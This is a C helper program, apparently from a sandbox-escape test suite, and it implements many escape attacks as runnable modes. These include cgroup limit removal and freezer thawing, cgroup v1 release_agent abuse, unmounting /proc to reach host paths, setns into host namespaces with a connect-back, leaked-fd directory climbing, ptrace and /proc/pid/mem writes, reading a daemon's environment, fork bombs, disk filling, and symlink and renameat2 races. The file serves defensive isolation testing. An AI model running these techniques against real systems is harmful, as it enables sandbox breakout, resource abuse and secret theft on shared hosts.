/* escape_helper.c — the attacks of the sandbox-escape suite, as one small static
 * program the test puts into a sandbox's disk (it needs no library of the
 * sandbox's image) and also runs as host root outside any sandbox (the
 * control that shows each attack works where nothing stops it).
 *
 *   escape-helper MODE ARGS...
 *
 * Every mode prints "helper-started" first, then one line per step it tries
 * ("step NAME: ok" or "step NAME: <errno text>"). The test never trusts these
 * lines for its verdict: it checks each attack's effect from the host (cgroup
 * files, the registry file, the daemon's list, a listener, a victim process).
 * Every attack is bounded in count and time, and touches only what the test
 * names on its command line, the cgroups the process itself is in, and pid 1
 * only when that is a sandbox's tally-sandbox-init. */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAGIC 0x7a11e5ca9e5ca9e5ULL

static volatile uint64_t victim_flag = 1;

static int64_t now_ms(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static void sleep_ms(int ms)
{
        struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000 };
        nanosleep(&ts, NULL);
}

static void burn_ms(int ms)
{
        int64_t until = now_ms() + ms;
        volatile uint64_t x = 0;
        while (now_ms() < until)
                for (int i = 0; i < 100000; i++)
                        x += (uint64_t)i;
}

static void step(const char *name, int r)
{
        if (r == 0)
                printf("step %s: ok\n", name);
        else
                printf("step %s: %s\n", name, strerror(-r));
        fflush(stdout);
}

/* step with a formatted name */
static void stepf(int r, const char *fmt, ...)
{
        char name[2048];
        va_list ap;
        va_start(ap, fmt);
        vsnprintf(name, sizeof(name), fmt, ap);
        va_end(ap);
        step(name, r);
}

static int write_file(const char *path, const char *text)
{
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
                return -errno;
        ssize_t n = write(fd, text, strlen(text));
        int r = n < 0 ? -errno : 0;
        close(fd);
        return r;
}

static int write_pid(const char *dir, pid_t pid)
{
        char path[1200], text[32];
        snprintf(path, sizeof(path), "%s/cgroup.procs", dir);
        snprintf(text, sizeof(text), "%d\n", (int)pid);
        return write_file(path, text);
}

static char *read_small(const char *path, size_t *len)
{
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return NULL;
        size_t cap = 1 << 16, n = 0;
        char *buf = malloc(cap + 1);
        ssize_t r;
        while (buf && n < cap && (r = read(fd, buf + n, cap - n)) > 0)
                n += (size_t)r;
        close(fd);
        if (buf)
                buf[n] = '\0';
        if (len)
                *len = n;
        return buf;
}

/* ---- this process's cgroups, as the mounts it can see show them ---- */

struct cg {
        char hier[64];  /* "cpu", "memory", ..., or "v2" */
        char mnt[512];  /* where the hierarchy is mounted */
        char dir[1024]; /* this process's cgroup folder in it */
};
static struct cg cgs[16];
static int ncgs;

/* Fills cgs from /proc/self/mountinfo and /proc/self/cgroup. */
static void find_cgroups(void)
{
        ncgs = 0;
        char *mi = read_small("/proc/self/mountinfo", NULL), *own = read_small("/proc/self/cgroup", NULL);
        if (!mi || !own) {
                free(mi);
                free(own);
                return;
        }
        for (char *save = NULL, *line = strtok_r(mi, "\n", &save); line && ncgs < 16;
             line = strtok_r(NULL, "\n", &save)) {
                char root[512], mnt[512], fstype[64], super[512];
                /* id parent maj:min root mount opts [optional...] - fstype source superopts */
                if (sscanf(line, "%*s %*s %*s %511s %511s", root, mnt) != 2)
                        continue;
                char *dash = strstr(line, " - ");
                if (!dash || sscanf(dash + 3, "%63s %*s %511s", fstype, super) != 2)
                        continue;
                bool v2 = strcmp(fstype, "cgroup2") == 0;
                if (!v2 && strcmp(fstype, "cgroup") != 0)
                        continue;
                /* Which line of /proc/self/cgroup belongs to this hierarchy. */
                const char *names[] = { "cpu", "cpuacct", "memory", "freezer", "pids", NULL };
                const char *hier = NULL;
                for (int i = 0; !v2 && names[i] && !hier; i++) {
                        char opts[512], *p = opts;
                        snprintf(opts, sizeof(opts), "%s", super);
                        for (char *tok; (tok = strsep(&p, ","));)
                                if (strcmp(tok, names[i]) == 0)
                                        hier = names[i];
                }
                if (!v2 && !hier)
                        continue;
                char *copy = strdup(own), *path = NULL;
                for (char *s2 = NULL, *l = strtok_r(copy, "\n", &s2); l; l = strtok_r(NULL, "\n", &s2)) {
                        char *c1 = strchr(l, ':'), *c2 = c1 ? strchr(c1 + 1, ':') : NULL;
                        if (!c2)
                                continue;
                        *c2 = '\0';
                        bool match = false;
                        if (v2)
                                match = strcmp(c1 + 1, "") == 0;
                        else {
                                char *p = c1 + 1;
                                for (char *tok; (tok = strsep(&p, ","));)
                                        if (strcmp(tok, hier) == 0)
                                                match = true;
                        }
                        if (match) {
                                path = c2 + 1;
                                break;
                        }
                }
                if (path) {
                        struct cg *c = &cgs[ncgs++];
                        snprintf(c->hier, sizeof(c->hier), "%s", v2 ? "v2" : hier);
                        snprintf(c->mnt, sizeof(c->mnt), "%s", mnt);
                        /* the path is relative to the cgroup namespace; the mount's root too */
                        const char *rel = path;
                        if (strcmp(root, "/") != 0 && strncmp(path, root, strlen(root)) == 0)
                                rel = path + strlen(root);
                        snprintf(c->dir, sizeof(c->dir), "%s%s", mnt, strcmp(rel, "/") == 0 ? "" : rel);
                        printf("cgroup %s mounted at %s, own folder %s\n", c->hier, c->mnt, c->dir);
                }
                free(copy);
        }
        free(mi);
        free(own);
}

/* Finds the cgroups; where none is mounted (a jail hides them), mounts them itself. */
static void find_or_mount_cgroups(void)
{
        find_cgroups();
        if (ncgs > 0)
                return;
        const char *names[] = { "cpu", "cpuacct", "memory", "freezer", "pids", "v2", NULL };
        for (int i = 0; names[i]; i++) {
                char dir[256], name[64];
                snprintf(dir, sizeof(dir), "/tmp/escape-cg-%s", names[i]);
                if (mkdir("/tmp", 0755) < 0 && errno != EEXIST)
                        snprintf(dir, sizeof(dir), "escape-cg-%s", names[i]);
                mkdir(dir, 0755);
                bool v2 = strcmp(names[i], "v2") == 0;
                int r = mount("cgroup", dir, v2 ? "cgroup2" : "cgroup", 0, v2 ? NULL : names[i]) < 0 ? -errno : 0;
                snprintf(name, sizeof(name), "mount-cgroup-%s", names[i]);
                step(name, r);
        }
        find_cgroups();
}

static struct cg *cg_find(const char *hier)
{
        for (int i = 0; i < ncgs; i++)
                if (strcmp(cgs[i].hier, hier) == 0)
                        return &cgs[i];
        return NULL;
}

/* Moves pid out of its cgroup in every hierarchy: to the parent folder, else the root. */
static void leave_all(pid_t pid)
{
        for (int i = 0; i < ncgs; i++) {
                char parent[1024];
                int r = -ENOENT;
                snprintf(parent, sizeof(parent), "%s", cgs[i].dir);
                char *slash = strrchr(parent, '/');
                if (strcmp(cgs[i].dir, cgs[i].mnt) != 0 && slash && slash > parent + strlen(cgs[i].mnt) - 1) {
                        *slash = '\0';
                        r = write_pid(parent, pid);
                        stepf(r, "leave-%s-to-parent %s", cgs[i].hier, parent);
                }
                if (r < 0) {
                        r = write_pid(cgs[i].mnt, pid);
                        stepf(r, "leave-%s-to-root %s", cgs[i].hier, cgs[i].mnt);
                }
        }
}

/* ---- the host's /proc, through an unmount ---- */

/* Unmounts /proc (to reveal what lies below); where that leaves no /proc, mounts one. */
static void expose_proc(void)
{
        step("umount-proc", umount2("/proc", MNT_DETACH) < 0 ? -errno : 0);
        if (access("/proc/self/stat", F_OK) != 0)
                step("mount-proc", mount("proc", "/proc", "proc", 0, NULL) < 0 ? -errno : 0);
}

/* Calls fn on every pid under /proc; stops when it returns nonzero. */
static void each_pid(int (*fn)(int pid, void *arg), void *arg)
{
        DIR *d = opendir("/proc");
        if (!d)
                return;
        struct dirent *de;
        while ((de = readdir(d)))
                if (de->d_name[0] >= '1' && de->d_name[0] <= '9' && fn(atoi(de->d_name), arg))
                        break;
        closedir(d);
}

static int find_marker(int pid, void *arg)
{
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
        size_t len = 0;
        char *t = read_small(path, &len);
        if (t && len > 0 && memmem(t, len, arg, strlen(arg))) {
                printf("marker pid=%d\n", pid);
                fflush(stdout);
        }
        free(t);
        return 0;
}

static void print_secret(const char *how, const char *path)
{
        char *t = read_small(path, NULL);
        if (t)
                printf("secret %s: %s\n", how, t);
        else
                printf("secret %s: %s\n", how, strerror(errno));
        fflush(stdout);
        free(t);
}

/* ---- the modes ---- */

static int mode_leave_cgroup(void)
{
        find_or_mount_cgroups();
        int sync[2];
        if (pipe(sync) < 0)
                return 1;
        pid_t child = fork();
        if (child == 0) {
                close(sync[0]);
                leave_all(getpid());
                printf("lingerer pid=%d\n", (int)getpid());
                fflush(stdout);
                int null = open("/dev/null", O_RDWR);
                dup2(null, 1);
                dup2(null, 2);
                close(sync[1]);
                /* CPU that, escaped, nobody would bill; then linger for the test to look. */
                burn_ms(500);
                sleep_ms(4000);
                _exit(0);
        }
        close(sync[1]);
        char b;
        while (read(sync[0], &b, 1) > 0)
                ;
        return 0;
}

static int mode_counters(void)
{
        find_or_mount_cgroups();
        /* CPU to erase, then time for the test to read the counter from the host */
        burn_ms(300);
        sleep_ms(300);
        struct cg *c;
        char path[1200];
        if ((c = cg_find("cpuacct"))) {
                snprintf(path, sizeof(path), "%s/cpuacct.usage", c->dir);
                step("reset-cpuacct.usage", write_file(path, "0"));
        }
        if ((c = cg_find("cpu"))) {
                snprintf(path, sizeof(path), "%s/cpu.cfs_quota_us", c->dir);
                step("remove-cpu.cfs_quota_us", write_file(path, "-1"));
        }
        if ((c = cg_find("memory"))) {
                snprintf(path, sizeof(path), "%s/memory.memsw.limit_in_bytes", c->dir);
                if (access(path, F_OK) == 0)
                        step("raise-memory.memsw.limit_in_bytes", write_file(path, "8589934592"));
                snprintf(path, sizeof(path), "%s/memory.limit_in_bytes", c->dir);
                step("raise-memory.limit_in_bytes", write_file(path, "8589934592"));
        }
        if ((c = cg_find("pids"))) {
                snprintf(path, sizeof(path), "%s/pids.max", c->dir);
                step("raise-pids.max", write_file(path, "max"));
        }
        if ((c = cg_find("v2"))) {
                snprintf(path, sizeof(path), "%s/cpu.max", c->dir);
                if (access(path, F_OK) == 0)
                        step("remove-cpu.max", write_file(path, "max"));
                snprintf(path, sizeof(path), "%s/memory.max", c->dir);
                if (access(path, F_OK) == 0)
                        step("raise-memory.max", write_file(path, "max"));
                snprintf(path, sizeof(path), "%s/pids.max", c->dir);
                if (access(path, F_OK) == 0)
                        step("raise-v2-pids.max", write_file(path, "max"));
        }
        return 0;
}

/* A thawer that leaves the freezer and keeps thawing the folder it left, and a
 * burner that stays and burns; both started before the pause, both bounded. */
static int mode_thaw(void)
{
        find_or_mount_cgroups();
        char freezer[1200] = "", freeze2[1200] = "";
        struct cg *c;
        if ((c = cg_find("freezer")))
                snprintf(freezer, sizeof(freezer), "%s/freezer.state", c->dir);
        if ((c = cg_find("v2")))
                snprintf(freeze2, sizeof(freeze2), "%s/cgroup.freeze", c->dir);
        int sync[2];
        if (pipe(sync) < 0)
                return 1;
        pid_t thawer = fork();
        if (thawer == 0) {
                close(sync[0]);
                leave_all(getpid());
                printf("thawer pid=%d\n", (int)getpid());
                fflush(stdout);
                int null = open("/dev/null", O_RDWR);
                dup2(null, 1);
                dup2(null, 2);
                close(sync[1]);
                int64_t until = now_ms() + 10000;
                while (now_ms() < until) {
                        if (*freezer)
                                write_file(freezer, "THAWED");
                        if (*freeze2)
                                write_file(freeze2, "0");
                        sleep_ms(10);
                }
                _exit(0);
        }
        pid_t burner = fork();
        if (burner == 0) {
                close(sync[0]);
                int null = open("/dev/null", O_RDWR);
                dup2(null, 1);
                dup2(null, 2);
                close(sync[1]);
                burn_ms(6000);
                _exit(0);
        }
        close(sync[1]);
        char b;
        while (read(sync[0], &b, 1) > 0)
                ;
        printf("burner pid=%d\n", (int)burner);
        return 0;
}

/* Replaces the value of "account" in a registry record with "escaped". */
static int rewrite_record(const char *path)
{
        size_t len;
        char *t = read_small(path, &len);
        if (!t)
                return -errno;
        char *k = strstr(t, "\"account\"");
        char *q1 = k ? strchr(k + 9, '"') : NULL, *q2 = q1 ? strchr(q1 + 1, '"') : NULL;
        if (!q2) {
                free(t);
                return -EINVAL;
        }
        char *out = malloc(len + 32);
        int n = sprintf(out, "%.*s\"escaped\"%s", (int)(q1 - t), t, q2 + 1);
        int fd = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        int r = fd < 0 ? -errno : write(fd, out, (size_t)n) == n ? 0 : -errno;
        if (fd >= 0)
                close(fd);
        free(out);
        free(t);
        return r;
}

struct walk {
        const char *name;
        char found[8][1024];
        int nfound, seen;
        int64_t until;
};

/* A bounded search of the file tree for a file name (a jail may hide the host's paths). */
static void walk(const char *dir, int depth, struct walk *w)
{
        if (depth > 7 || w->seen > 200000 || now_ms() > w->until || w->nfound >= 8)
                return;
        DIR *d = opendir(dir);
        if (!d)
                return;
        struct dirent *de;
        while ((de = readdir(d)) && w->nfound < 8) {
                w->seen++;
                if (de->d_name[0] == '.' && (!de->d_name[1] || (de->d_name[1] == '.' && !de->d_name[2])))
                        continue;
                char path[1024];
                snprintf(path, sizeof(path), "%s/%s", strcmp(dir, "/") == 0 ? "" : dir, de->d_name);
                if (strcmp(de->d_name, w->name) == 0)
                        snprintf(w->found[w->nfound++], sizeof(w->found[0]), "%s", path);
                else if (de->d_type == DT_DIR && strcmp(path, "/proc") != 0 && strcmp(path, "/sys") != 0 &&
                         strcmp(path, "/dev") != 0)
                        walk(path, depth + 1, w);
        }
        closedir(d);
}

static int mode_registry(const char *state_dir, const char *id)
{
        char direct[1024], via_proc[1100], name[128];
        snprintf(direct, sizeof(direct), "%s/sandboxes/%s.json", state_dir, id);
        snprintf(via_proc, sizeof(via_proc), "/proc/1/root%s", direct);
        int r = rewrite_record(direct);
        step("write-record-at-host-path", r);
        if (r == 0)
                return 0;
        r = rewrite_record(via_proc);
        step("write-record-via-proc-1-root", r);
        if (r == 0)
                return 0;
        struct walk w = { .until = now_ms() + 5000 };
        snprintf(name, sizeof(name), "%s.json", id);
        w.name = name;
        walk("/", 0, &w);
        printf("searched %d entries, found %d\n", w.seen, w.nfound);
        for (int i = 0; i < w.nfound; i++) {
                char what[1100];
                snprintf(what, sizeof(what), "write-record-found-at %s", w.found[i]);
                step(what, rewrite_record(w.found[i]));
        }
        return 0;
}

static int http_call(const char *sock_path, const char *request)
{
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        struct sockaddr_un a = { .sun_family = AF_UNIX };
        if (fd < 0 || strlen(sock_path) >= sizeof(a.sun_path))
                return fd < 0 ? -errno : -ENAMETOOLONG;
        snprintf(a.sun_path, sizeof(a.sun_path), "%s", sock_path);
        if (connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0) {
                int r = -errno;
                close(fd);
                return r;
        }
        if (write(fd, request, strlen(request)) < 0) {
                int r = -errno;
                close(fd);
                return r;
        }
        char buf[4096];
        size_t n = 0;
        struct pollfd p = { fd, POLLIN, 0 };
        int64_t until = now_ms() + 3000;
        while (n < sizeof(buf) - 1 && now_ms() < until && poll(&p, 1, 200) >= 0) {
                if (!(p.revents & (POLLIN | POLLHUP)))
                        continue;
                ssize_t r = read(fd, buf + n, sizeof(buf) - 1 - n);
                if (r <= 0)
                        break;
                n += (size_t)r;
        }
        buf[n] = '\0';
        close(fd);
        printf("answer from %s: %s\n", sock_path, buf);
        fflush(stdout);
        return 0;
}

static int mode_vmm_socket(const char *sock_path, const char *account)
{
        char body[512], req[1024];
        snprintf(body, sizeof(body),
                 "{\"account\":\"%s\",\"key\":\"key-escape\",\"memory_mib\":64,\"timeout_s\":60,\"network\":true}",
                 account);
        snprintf(req, sizeof(req),
                 "POST /v1/sandboxes HTTP/1.0\r\nHost: vmm\r\nContent-Type: application/json\r\n"
                 "Content-Length: %zu\r\n\r\n%s",
                 strlen(body), body);
        const char *status = "GET /v1/status HTTP/1.0\r\nHost: vmm\r\n\r\n";
        char via_proc[1100];
        snprintf(via_proc, sizeof(via_proc), "/proc/1/root%s", sock_path);
        const char *paths[] = { sock_path, via_proc };
        for (int i = 0; i < 2; i++) {
                char name[1200];
                snprintf(name, sizeof(name), "connect %s", paths[i]);
                int r = http_call(paths[i], status);
                step(name, r);
                if (r == 0) {
                        step("create-through-socket", http_call(paths[i], req));
                        return 0;
                }
        }
        struct walk w = { .name = "vmm.sock", .until = now_ms() + 5000 };
        walk("/", 0, &w);
        printf("searched %d entries, found %d\n", w.seen, w.nfound);
        for (int i = 0; i < w.nfound; i++) {
                char name[1200];
                snprintf(name, sizeof(name), "connect-found %s", w.found[i]);
                int r = http_call(w.found[i], status);
                step(name, r);
                if (r == 0)
                        step("create-through-socket", http_call(w.found[i], req));
        }
        return 0;
}

/* A directory descriptor leaked in from outside the sandbox's root reaches the
 * host's tree: ".." from a folder outside the root climbs to the real root. */
static void secret_via_fds(const char *secret)
{
        int here = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
        for (int fd = 3; fd < 1024; fd++) {
                struct stat st;
                if (fd == here || fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode) || fchdir(fd) < 0)
                        continue;
                for (int i = 0; i < 64; i++)
                        if (chdir("..") < 0)
                                break;
                char how[64];
                snprintf(how, sizeof(how), "via-fd-%d", fd);
                print_secret(how, secret + 1); /* relative to where the climb ended */
                if (here >= 0 && fchdir(here) < 0)
                        break;
        }
        if (here >= 0)
                close(here);
}

static int mode_host_proc(const char *prefix, const char *suffix, const char *secret)
{
        char marker[256], via[1100];
        snprintf(marker, sizeof(marker), "%s%s", prefix, suffix);
        print_secret("direct", secret);
        secret_via_fds(secret);
        expose_proc();
        each_pid(find_marker, marker);
        snprintf(via, sizeof(via), "/proc/1/root%s", secret);
        print_secret("via-proc-1-root", via);
        return 0;
}

static int ns_fd_setns(int fd, int type, const char *what)
{
        int r = setns(fd, type) < 0 ? -errno : 0;
        step(what, r);
        return r;
}

static int connect_back(int port, const char *token)
{
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
        if (fd < 0)
                return -errno;
        struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        int r = connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0 ? -errno : 0;
        if (r == -EINPROGRESS) {
                struct pollfd p = { fd, POLLOUT, 0 };
                int e = 0;
                socklen_t el = sizeof(e);
                r = poll(&p, 1, 500) == 1 && getsockopt(fd, SOL_SOCKET, SO_ERROR, &e, &el) == 0 ? -e : -ETIMEDOUT;
        }
        if (r == 0 && write(fd, token, strlen(token)) < 0)
                r = -errno;
        close(fd);
        return r;
}

/* The distinct namespaces of one type that other processes under /proc are in. */
struct other_ns {
        const char *type;
        ino_t seen[256];
        int pids[256];
        int n;
};

static int collect_ns(int pid, void *arg)
{
        struct other_ns *o = arg;
        char path[64];
        struct stat st;
        snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, o->type);
        if (stat(path, &st) < 0)
                return 0;
        for (int i = 0; i < o->n; i++)
                if (o->seen[i] == st.st_ino)
                        return 0;
        o->seen[o->n] = st.st_ino;
        o->pids[o->n++] = pid;
        return o->n >= 256;
}

static int mode_setns(int port, const char *token)
{
        struct stat own;
        stat("/proc/self/ns/net", &own);
        expose_proc();
        int done = 0;
        /* 1: the host's init, through whatever /proc now shows */
        int fd = open("/proc/1/ns/net", O_RDONLY | O_CLOEXEC);
        step("open /proc/1/ns/net", fd < 0 ? -errno : 0);
        if (fd >= 0 && ns_fd_setns(fd, CLONE_NEWNET, "setns-net /proc/1/ns/net") == 0)
                done = connect_back(port, token) == 0;
        if (fd >= 0)
                close(fd);
        /* 2: every other network namespace a process under /proc is in */
        struct other_ns o = { .type = "net" };
        each_pid(collect_ns, &o);
        int tried = 0, entered = 0;
        for (int i = 0; i < o.n && !done; i++) {
                if (o.seen[i] == own.st_ino)
                        continue;
                char path[64];
                snprintf(path, sizeof(path), "/proc/%d/ns/net", o.pids[i]);
                fd = open(path, O_RDONLY | O_CLOEXEC);
                tried++;
                if (fd >= 0 && setns(fd, CLONE_NEWNET) == 0) {
                        entered++;
                        done = connect_back(port, token) == 0;
                }
                if (fd >= 0)
                        close(fd);
        }
        printf("other network namespaces: %d tried, %d entered\n", tried, entered);
        /* 3: any inherited descriptor */
        for (int i = 3; i < 256 && !done; i++)
                if (fcntl(i, F_GETFD) >= 0 && setns(i, CLONE_NEWNET) == 0) {
                        printf("setns-net through inherited fd %d: ok\n", i);
                        done = connect_back(port, token) == 0;
                }
        step("connect-back-from-host-namespace", done ? 0 : -ENETUNREACH);
        /* the host's uts namespace: every other one, printing its host name */
        struct other_ns u = { .type = "uts" };
        each_pid(collect_ns, &u);
        for (int i = 0; i < u.n; i++) {
                char path[64], host[256] = "";
                snprintf(path, sizeof(path), "/proc/%d/ns/uts", u.pids[i]);
                fd = open(path, O_RDONLY | O_CLOEXEC);
                if (fd >= 0 && setns(fd, CLONE_NEWUTS) == 0 && gethostname(host, sizeof(host)) == 0)
                        printf("hostname=%s\n", host);
                if (fd >= 0)
                        close(fd);
        }
        return 0;
}

static int mode_release_agent(const char *payload, const char *token)
{
        char dir[256], opts[128], path[512];
        snprintf(dir, sizeof(dir), "escape-ra-%s", token);
        if (mkdir(dir, 0755) < 0 && errno != EEXIST) {
                snprintf(dir, sizeof(dir), "/tmp/escape-ra-%s", token);
                mkdir(dir, 0755);
        }
        snprintf(opts, sizeof(opts), "none,name=tallyesc%s", token);
        int r = mount("cgroup", dir, "cgroup", 0, opts) < 0 ? -errno : 0;
        step("mount-cgroup-v1-named", r);
        if (r < 0) {
                /* an existing hierarchy with its own options */
                r = mount("cgroup", dir, "cgroup", 0, "rdma") < 0 ? -errno : 0;
                step("mount-cgroup-v1-rdma", r);
        }
        snprintf(path, sizeof(path), "%s/release_agent", dir);
        step("set-release_agent", write_file(path, payload));
        snprintf(path, sizeof(path), "%s/x", dir);
        step("mkdir-child", mkdir(path, 0755) < 0 ? -errno : 0);
        snprintf(path, sizeof(path), "%s/x/notify_on_release", dir);
        step("notify_on_release", write_file(path, "1"));
        int go[2];
        if (pipe(go) < 0)
                return 1;
        pid_t child = fork();
        if (child == 0) {
                close(go[1]);
                char b;
                read(go[0], &b, 1);
                _exit(0);
        }
        close(go[0]);
        snprintf(path, sizeof(path), "%s/x", dir);
        step("enter-child", write_pid(path, child));
        close(go[1]);
        waitpid(child, NULL, 0);
        sleep_ms(500);
        rmdir(path);
        step("umount", umount2(dir, MNT_DETACH) < 0 ? -errno : 0);
        rmdir(dir);
        return 0;
}

static int mode_forkbomb(int target, int hold_ms)
{
        static pid_t kids[4096];
        int n = 0, err = 0;
        if (target > 4096)
                target = 4096;
        int64_t until = now_ms() + 5000;
        while (n < target && now_ms() < until) {
                pid_t p = fork();
                if (p < 0) {
                        err = errno;
                        if (err == EAGAIN && now_ms() < until - 4500) {
                                sleep_ms(5);
                                continue;
                        }
                        break;
                }
                if (p == 0) {
                        prctl(PR_SET_PDEATHSIG, SIGKILL);
                        sleep_ms(hold_ms + 10000);
                        _exit(0);
                }
                kids[n++] = p;
        }
        printf("forked %d of %d, last error %d (%s)\n", n, target, err, err ? strerror(err) : "none");
        printf("holding\n");
        fflush(stdout);
        sleep_ms(hold_ms);
        for (int i = 0; i < n; i++)
                kill(kids[i], SIGKILL);
        for (int i = 0; i < n; i++)
                waitpid(kids[i], NULL, 0);
        return 0;
}

static int mode_disk_fill(const char *dir, long long bytes)
{
        char path[1024];
        snprintf(path, sizeof(path), "%s/escape-fill", dir);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0) {
                step("open", -errno);
                return 0;
        }
        static char chunk[1 << 20];
        memset(chunk, 'x', sizeof(chunk));
        long long total = 0;
        int err = 0;
        int64_t until = now_ms() + 20000;
        while (total < bytes && now_ms() < until) {
                ssize_t w = write(fd, chunk, sizeof(chunk));
                if (w < 0) {
                        err = errno;
                        break;
                }
                total += w;
                if (w < (ssize_t)sizeof(chunk)) {
                        /* a short write: the next one says why */
                        continue;
                }
        }
        int ferr = fsync(fd) < 0 ? errno : 0;
        close(fd);
        printf("wrote %lld bytes, write error %d, fsync error %d\n", total, err, ferr);
        unlink(path);
        return 0;
}

/* fork: /work/.tmp (the folder a sandbox's /tmp is) replaced by a link to
 * target, for a fork's init to follow as host root. */
static int mode_plant_tmp(const char *target)
{
        step("remove-.tmp", rmdir("/work/.tmp") < 0 ? -errno : 0); /* a fresh sandbox's /tmp is empty */
        step("link-.tmp", symlink(target, "/work/.tmp") < 0 ? -errno : 0);
        char back[512];
        ssize_t n = readlink("/work/.tmp", back, sizeof(back) - 1);
        if (n > 0) {
                back[n] = '\0';
                printf("/work/.tmp -> %s\n", back);
        }
        return 0;
}

/* fork: while a fork copies /work, folders that flip with links to target
 * (renameat2 RENAME_EXCHANGE: each name is a folder one moment, a link the
 * next) for a copier that looks at a name, then opens it again. */
static int mode_race(int n, const char *target, int ms)
{
        if (n > 64)
                n = 64;
        for (int i = 0; i < n; i++) {
                char d[32], f[48], l[32];
                snprintf(d, sizeof(d), "race%d", i);
                snprintf(l, sizeof(l), "race%d.l", i);
                mkdir(d, 0755);
                for (int k = 0; k < 8; k++) {
                        snprintf(f, sizeof(f), "%s/file%d", d, k);
                        int fd = open(f, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
                        if (fd >= 0) {
                                ssize_t w = write(fd, "sandbox's own file\n", 19);
                                (void)w;
                                close(fd);
                        }
                }
                unlink(l);
                step(l, symlink(target, l) < 0 ? -errno : 0);
        }
        printf("racing\n");
        fflush(stdout);
        long flips = 0;
        int64_t until = now_ms() + ms;
        while (now_ms() < until)
                for (int i = 0; i < n; i++) {
                        char d[32], l[32];
                        snprintf(d, sizeof(d), "race%d", i);
                        snprintf(l, sizeof(l), "race%d.l", i);
                        if (syscall(SYS_renameat2, AT_FDCWD, d, AT_FDCWD, l, RENAME_EXCHANGE) == 0)
                                flips++;
                }
        printf("flips %ld\n", flips);
        return 0;
}

/* Reads what only a ptrace-capable caller may read of the daemon: its environment. */
static void read_daemon_environ(int daemon)
{
        char path[64];
        size_t len = 0;
        snprintf(path, sizeof(path), "/proc/%d/environ", daemon);
        char *t = read_small(path, &len);
        step("read-daemon-environ", t ? 0 : -errno);
        /* only the variable the test planted: the rest of a daemon's environment is not for a log */
        const char *name = "TALLY_ESCAPE_DAEMON_SECRET=";
        for (size_t i = 0; t && i < len; i += strlen(t + i) + 1)
                if (strncmp(t + i, name, strlen(name)) == 0)
                        printf("daemon environ: %s\n", t + i);
        free(t);
}

static int mode_ptrace(int pid, unsigned long long addr, int daemon)
{
        uint64_t magic = MAGIC;
        /* the sandbox's own pid 1: in a jail, host root outside the sandbox's user namespace.
         * Only when pid 1 is a sandbox's init: the host's pid 1 is never touched. */
        size_t cl = 0;
        char *cmd = read_small("/proc/1/cmdline", &cl);
        bool sandbox_init = cmd && memmem(cmd, cl, "tally-sandbox-init", 18);
        free(cmd);
        if (sandbox_init && getpid() != 1) {
                int a = ptrace(PTRACE_SEIZE, 1, NULL, NULL) < 0 ? -errno : 0;
                step("ptrace-seize-pid-1", a);
                if (a == 0) {
                        sleep_ms(1000); /* long enough for the test to see TracerPid from the host */
                        ptrace(PTRACE_DETACH, 1, NULL, NULL);
                }
        }
        int r = ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0 ? -errno : 0;
        step("ptrace-attach", r);
        if (r == 0) {
                waitpid(pid, NULL, __WALL);
                r = ptrace(PTRACE_POKEDATA, pid, (void *)(uintptr_t)addr, (void *)(uintptr_t)magic) < 0 ? -errno : 0;
                step("ptrace-pokedata", r);
                ptrace(PTRACE_DETACH, pid, NULL, NULL);
        }
        read_daemon_environ(daemon);
        if (r == 0)
                return 0;
        expose_proc();
        read_daemon_environ(daemon);
        char path[64];
        snprintf(path, sizeof(path), "/proc/%d/mem", pid);
        int fd = open(path, O_RDWR | O_CLOEXEC);
        step("open-proc-pid-mem", fd < 0 ? -errno : 0);
        if (fd >= 0) {
                r = pwrite(fd, &magic, sizeof(magic), (off_t)addr) == sizeof(magic) ? 0 : -errno;
                step("write-proc-pid-mem", r);
                close(fd);
        }
        return 0;
}

/* The target of the ptrace attack and the marker of the host-proc one (host side only). */
static int mode_victim(const char *out)
{
        char text[64], done[1100];
        snprintf(text, sizeof(text), "%p\n", (void *)&victim_flag);
        int fd = open(out, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
        if (fd < 0 || write(fd, text, strlen(text)) < 0)
                return 1;
        close(fd);
        snprintf(done, sizeof(done), "%s.pwned", out);
        int64_t until = now_ms() + 300000;
        while (now_ms() < until) {
                if (victim_flag == MAGIC) {
                        fd = open(done, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
                        if (fd >= 0)
                                close(fd);
                        return 42;
                }
                sleep_ms(10);
        }
        return 0;
}


/* ---- network: the host's services, the test's own "internet", the egress proxy ---- */

/* Connects to an address literal (IPv4 or IPv6) within ms. Returns the socket or -errno. */
static int net_connect(const char *host, int port, int ms)
{
        struct sockaddr_storage ss = { 0 };
        struct sockaddr_in *a4 = (struct sockaddr_in *)&ss;
